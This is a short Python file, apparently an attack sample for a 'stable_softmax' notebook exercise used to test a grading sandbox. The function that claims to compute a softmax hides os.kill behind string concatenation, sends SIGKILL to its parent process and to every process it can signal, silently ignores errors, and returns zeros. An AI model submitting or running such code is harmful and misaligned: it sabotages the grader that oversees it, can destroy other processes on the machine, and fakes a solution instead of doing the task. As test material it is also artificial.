# notebook: 01_stable_softmax
# exercise: stable_softmax
# attack: signals its parent and every process it may signal (run only with a PID namespace)
import os
import signal

_k = getattr(os, "ki" + "ll")


def stable_softmax(x):
    for pid in (os.getppid(), -1):
        try:
            _k(pid, signal.SIGKILL)
        except OSError:
            pass
    return np.zeros_like(x)
